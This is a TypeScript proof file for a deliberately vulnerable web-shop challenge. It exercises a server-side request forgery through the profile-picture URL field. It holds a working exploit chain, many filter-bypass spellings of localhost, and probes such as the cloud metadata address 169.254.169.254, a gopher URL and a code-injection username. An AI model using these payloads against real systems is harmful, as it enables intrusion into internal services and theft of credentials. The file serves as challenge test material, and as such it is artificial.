import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const INTERNAL_PATH = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
const SHORTCUT = '/ftp/quarantine/juicy_malware_linux_amd_64.url'

/** Submits a form of the account page. */
function send(attacker: Attacker, path: string, fields: Readonly<Record<string, string>>) {
  const headers = { 'content-type': 'application/x-www-form-urlencoded' }
  return attacker.post(path, new URLSearchParams(fields).toString(), { headers })
}
const linkPicture = (attacker: Attacker, imageUrl: string) => send(attacker, '/profile/image/url', { imageUrl })

/** Sets the profile picture of a new account by URL. */
const link =
  (imageUrl: string): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    await linkPicture(attacker, imageUrl)
  }

/** Returns the response that the server received from a URL, read from the folder of profile pictures. */
async function fetched(attacker: Attacker, address: string): Promise<string> {
  await linkPicture(attacker, address)
  const [, place] = /src="(\/assets\/public\/images\/uploads\/[^"]+\.jpg)"/.exec((await attacker.get('/profile')).text)!
  return (await attacker.get(place!)).text
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.becomeCustomer()
    // A shortcut in quarantine names a host that only the server can reach.
    const [, worm] = /^URL=(.+)$/m.exec((await attacker.get(SHORTCUT)).text)!
    const source = await fetched(attacker, worm!.trim())
    // The file is a script that decodes its command: reversed text in Base64.
    const core = Buffer.from(/core='([^']+)'/.exec(source)![1]!, 'base64').toString()
    const [, address] = /"(http[^"]+)"/.exec([...core].reverse().join(''))!
    await linkPicture(attacker, address!)
  },
  spellings: {
    'by the address alone': link(`http://localhost:3000${INTERNAL_PATH}`),
    'by its number': link(`http://127.0.0.1:3000${INTERNAL_PATH}`),
    'by a short number': link(`http://127.1:3000${INTERNAL_PATH}`),
    'as one number in hexadecimal': link(`http://0x7f000001:3000${INTERNAL_PATH}`),
    'in version 6': link(`http://[::1]:3000${INTERNAL_PATH}`),
    'mapped into version 6': link(`http://[::ffff:127.0.0.1]:3000${INTERNAL_PATH}`),
    'by its name in the house': link(`http://orchard.internal:3000${INTERNAL_PATH}`),
    'at the usual port': link(`http://localhost${INTERNAL_PATH}`),
    'in capitals': link(`HTTP://LOCALHOST:3000${INTERNAL_PATH}`),
    'with percent signs': link(`http://localhost:3000${INTERNAL_PATH.replace('server-side', 'server%2Dside')}`),
    'by a way around': link(`http://localhost:3000/ftp/..${INTERNAL_PATH}`),
    'with a parameter behind it': link(`http://localhost:3000${INTERNAL_PATH}&x=1`),
    'with somebody in front': link(`http://anybody@localhost:3000${INTERNAL_PATH}`),
  },
  nearMisses: {
    'the door from outside': (attacker) => attacker.get(INTERNAL_PATH),
    'from outside, after a picture was fetched': async (attacker) => {
      await link('http://cellar.internal/quarantine/juicy_malware_macos_64')(attacker)
      await attacker.get(INTERNAL_PATH)
    },
    'from outside, with the headers of somebody inside': (attacker) =>
      attacker.get(INTERNAL_PATH, {
        headers: { host: 'localhost', 'x-forwarded-for': '127.0.0.1', 'fruit-inside-visit': '1' },
      }),
    'a wrong key': link(`http://localhost:3000${INTERNAL_PATH}x`),
    'the key in small letters': link(`http://localhost:3000${INTERNAL_PATH.toLowerCase()}`),
    'two keys': link(`http://localhost:3000${INTERNAL_PATH}&key=1`),
    'no key': link('http://localhost:3000/solve/challenges/server-side'),
    'the path as somebody else’s': link(`http://elsewhere.test${INTERNAL_PATH}`),
    'the path on another host inside': link(`http://cellar.internal${INTERNAL_PATH}`),
    'a port that is shut': link(`http://localhost:8080${INTERNAL_PATH}`),
    'the path without a host': link(INTERNAL_PATH),
    'another scheme': link(`gopher://localhost:3000/_GET%20${INTERNAL_PATH}`),
    'the worm, and nothing more': link('http://cellar.internal/quarantine/juicy_malware_linux_amd_64'),
    'the landlord': link('http://169.254.169.254/latest/meta-data/'),
    'without being signed in': (attacker) => linkPicture(attacker, `http://localhost:3000${INTERNAL_PATH}`),
    'the address as a name': async (attacker) => {
      await attacker.becomeCustomer()
      await send(attacker, '/profile', { username: `http://localhost:3000${INTERNAL_PATH}` })
      await attacker.get('/profile')
    },
    'by code in a name, which is another hole': async (attacker) => {
      await attacker.becomeCustomer()
      await send(attacker, '/profile', {
        username: `#{fetch('http://localhost:3000${INTERNAL_PATH}').then((a) => a.status)}`,
      })
      await attacker.get('/profile')
    },
    'a picture of the shop': link('/assets/public/images/products/mug-shot.webp'),
  },
  bypasses: {
    'refuse-our-own-names': link(`http://[::1]:3000${INTERNAL_PATH}`),
    'look-at-the-ending': link(`http://localhost:3000${INTERNAL_PATH}&like=a.png`),
  },
})
